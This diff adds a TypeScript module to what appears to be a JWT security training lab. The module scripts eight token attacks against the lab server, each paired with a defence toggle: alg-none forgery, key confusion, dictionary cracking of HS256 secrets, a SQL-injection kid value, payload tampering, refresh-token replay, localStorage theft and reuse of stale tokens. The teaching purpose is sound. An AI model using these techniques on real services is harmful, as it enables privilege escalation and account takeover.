@@ -1,0 +1,185 @@
+import { base64url } from 'jose';
+import {
+  crackHs256Secret,
+  decodeToken,
+  forgeUnsigned,
+  publicKeyPem,
+  signHs256,
+  signWithPublicKeyText,
+  type CrackProgress,
+} from '../../../common/jwt-inspect';
+import type { ToggleName } from '../../../common/toggles';
+import { LOCAL_STORAGE_KEY, exchange, raceRefresh } from './jwt-slice';
+
+export type JwtAttackId =
+  'algNone' | 'keyConfusion' | 'weakSecret' | 'kidInjection' | 'noVerify' | 'refreshReuse' | 'localStorage' | 'longTtl';
+
+export interface AttackOutcome {
+  /** True when the attacker got what they wanted. */
+  succeeded: boolean;
+  summary: string;
+  steps: string[];
+}
+
+export interface AttackContext {
+  userEmail: string;
+  userPassword: string;
+  progress: (p: CrackProgress) => void;
+  advanceClock: (ms: number) => Promise<void>;
+  resetClock: () => Promise<void>;
+  /** The lab client's own login, so storage follows the client's rules (memory vs localStorage). */
+  clientLogin: () => Promise<void>;
+}
+
+export const ATTACK_TOGGLES: Record<JwtAttackId, ToggleName> = {
+  algNone: 'jwt.algorithmAllowList',
+  keyConfusion: 'jwt.algorithmAllowList',
+  weakSecret: 'jwt.strongSecret',
+  kidInjection: 'jwt.kidSanitizing',
+  noVerify: 'jwt.verifySignature',
+  refreshReuse: 'jwt.refreshReuseDetection',
+  localStorage: 'jwt.storeInLocalStorage',
+  longTtl: 'jwt.shortAccessTtl',
+};
+
+const utf8 = (text: string) => new TextEncoder().encode(text);
+
+async function victimToken(ctx: AttackContext, steps: string[]) {
+  const login = await exchange('POST', '/api/jwt/login', {
+    body: { email: ctx.userEmail, password: ctx.userPassword },
+  });
+  const token = (login.body as { accessToken?: string }).accessToken;
+  if (login.status !== 200 || !token) throw new Error(`Could not sign in as ${ctx.userEmail} (${login.status}).`);
+  const decoded = decodeToken(token);
+  if (!decoded.ok) throw new Error(decoded.error);
+  steps.push(
+    `Signed in as ${ctx.userEmail}: a ${String(decoded.token.header.alg)} token with role "${String(decoded.token.payload.role)}".`,
+  );
+  return { token, header: decoded.token.header, payload: decoded.token.payload };
+}
+
+async function tryAdmin(forged: string, steps: string[]): Promise<AttackOutcome> {
+  const res = await exchange('GET', '/api/jwt/admin', { token: forged });
+  const error = (res.body as { error?: string } | null)?.error;
+  steps.push(`GET /api/jwt/admin with the forged token → ${res.status}${error ? ` ${error}` : ''}.`);
+  return res.status === 200
+    ? { succeeded: true, summary: 'The server accepted the forged admin token.', steps }
+    : { succeeded: false, summary: `Refused: ${res.status} ${error ?? ''}`.trim(), steps };
+}
+
+async function ensureAccessAlgorithm(want: (alg: string) => boolean, alg: string, steps: string[]) {
+  const keys = (await exchange('GET', '/api/jwt/keys')).body as Array<{
+    purpose: string;
+    alg: string;
+    retireAt: number | null;
+  }>;
+  const current = keys.find((k) => k.purpose === 'access' && k.retireAt === null);
+  if (current && want(current.alg)) return;
+  await exchange('POST', '/api/jwt/keys/rotate', { body: { alg } });
+  steps.push(`The lab signed with ${current?.alg ?? '?'}; rotated to a new ${alg} key for this attack.`);
+}
+
+/** Each attack talks to the real lab server, exactly as an attacker's script would. */
+export const ATTACKS: Record<JwtAttackId, (ctx: AttackContext) => Promise<AttackOutcome>> = {
+  algNone: async (ctx) => {
+    const steps: string[] = [];
+    const { header, payload } = await victimToken(ctx, steps);
+    const forged = forgeUnsigned(header, { ...payload, role: 'admin' });
+    steps.push('Rewrote the header to alg "none", set role "admin", dropped the signature.');
+    return tryAdmin(forged, steps);
+  },
+  keyConfusion: async (ctx) => {
+    const steps: string[] = [];
+    await ensureAccessAlgorithm((alg) => alg !== 'HS256', 'RS256', steps);
+    const { header, payload } = await victimToken(ctx, steps);
+    const jwks = await exchange('GET', '/.well-known/jwks.json');
+    const pem = await publicKeyPem({ kind: 'jwks', json: JSON.stringify(jwks.body) }, header.kid);
+    steps.push(
+      `Downloaded the public key for kid ${String(header.kid)} from /.well-known/jwks.json and turned it into PEM.`,
+    );
+    const forged = await signWithPublicKeyText({ ...header }, { ...payload, role: 'admin' }, pem);
+    steps.push('Signed role "admin" with HS256, using the public PEM text as the HMAC secret.');
+    return tryAdmin(forged, steps);
+  },
+  weakSecret: async (ctx) => {
+    const steps: string[] = [];
+    await ensureAccessAlgorithm((alg) => alg === 'HS256', 'HS256', steps);
+    const { token, header, payload } = await victimToken(ctx, steps);
+    const { words } = (await exchange('GET', '/api/jwt/attack/wordlist')).body as { words: string[] };
+    steps.push(`Trying ${words.length} dictionary words offline against one captured token…`);
+    const secret = await crackHs256Secret(token, words, { onProgress: ctx.progress });
+    if (secret === null) {
+      steps.push('No word matched: the secret is not in the dictionary.');
+      return { succeeded: false, summary: 'Cracking failed: the secret is random.', steps };
+    }
+    steps.push(`Cracked: the secret is "${secret}". Signed role "admin" with it.`);
+    return tryAdmin(await signHs256(header, { ...payload, role: 'admin' }, utf8(secret)), steps);
+  },
+  kidInjection: async (ctx) => {
+    const steps: string[] = [];
+    const { header, payload } = await victimToken(ctx, steps);
+    const kid = "x' UNION SELECT 'attacker-secret' --";
+    const forged = await signHs256({ ...header, kid }, { ...payload, role: 'admin' }, utf8('attacker-secret'));
+    steps.push(`Set kid to ${kid} and signed role "admin" with HS256 and the secret "attacker-secret".`);
+    return tryAdmin(forged, steps);
+  },
+  noVerify: async (ctx) => {
+    const steps: string[] = [];
+    const { token, payload } = await victimToken(ctx, steps);
+    const [headerPart, , signature] = token.split('.');
+    const body = base64url.encode(utf8(JSON.stringify({ ...payload, role: 'admin' })));
+    steps.push('Edited the payload to role "admin" and kept the old signature.');
+    return tryAdmin(`${headerPart}.${body}.${signature}`, steps);
+  },
+  refreshReuse: async (ctx) => {
+    const steps: string[] = [];
+    await victimToken(ctx, steps);
+    steps.push('The victim and the thief both hold refresh token #1 and present it at the same moment.');
+    const {
+      results: [victim, thief],
+      overlapped,
+    } = await raceRefresh();
+    if (!overlapped && victim.status === 200 && thief.status === 200) {
+      throw new Error('The two requests never overlapped (each carried a different token). Run it again.');
+    }
+    const describe = (r: { status: number; body: unknown }) =>
+      `${r.status}${(r.body as { error?: string })?.error ? ` ${(r.body as { error: string }).error}` : ''}`;
+    steps.push(`First use → ${describe(victim)}; second use of the same token → ${describe(thief)}.`);
+    const both = victim.status === 200 && thief.status === 200;
+    return both
+      ? { succeeded: true, summary: 'The replayed refresh token worked: the thief has a fresh session.', steps }
+      : { succeeded: false, summary: 'Reuse detected: the family is revoked, the thief gets nothing.', steps };
+  },
+  localStorage: async (ctx) => {
+    const steps: string[] = [];
+    await ctx.clientLogin();
+    steps.push('The lab client signed in and stored its access token by its own rules.');
+    // This is all an injected <script> needs: it runs with the page's origin.
+    const stolen = window.localStorage.getItem(LOCAL_STORAGE_KEY);
+    steps.push(`Injected script: localStorage["${LOCAL_STORAGE_KEY}"] → ${stolen ? 'a token!' : 'nothing'}.`);
+    steps.push(`Injected script: document.cookie → "${document.cookie}" (the HttpOnly refresh cookie is invisible).`);
+    if (!stolen) return { succeeded: false, summary: 'Nothing to steal: the token lives only in memory.', steps };
+    const res = await exchange('GET', '/api/jwt/me', { token: stolen });
+    steps.push(`The attacker replays the stolen token from elsewhere: GET /api/jwt/me → ${res.status}.`);
+    return res.status === 200
+      ? { succeeded: true, summary: 'The injected script stole a working access token.', steps }
+      : { succeeded: false, summary: 'The stolen token did not work.', steps };
+  },
+  longTtl: async (ctx) => {
+    const steps: string[] = [];
+    const { token } = await victimToken(ctx, steps);
+    steps.push('An attacker copies the access token, then waits a day (lab clock +1 day).');
+    await ctx.advanceClock(24 * 3600_000);
+    try {
+      const res = await exchange('GET', '/api/jwt/me', { token });
+      const error = (res.body as { error?: string } | null)?.error;
+      steps.push(`GET /api/jwt/me with the day-old token → ${res.status}${error ? ` ${error}` : ''}.`);
+      return res.status === 200
+        ? { succeeded: true, summary: 'A day later the stolen token still works.', steps }
+        : { succeeded: false, summary: 'The stolen token had already expired.', steps };
+    } finally {
+      await ctx.resetClock();
+      steps.push('Lab clock back to real time.');
+    }
+  },
+};
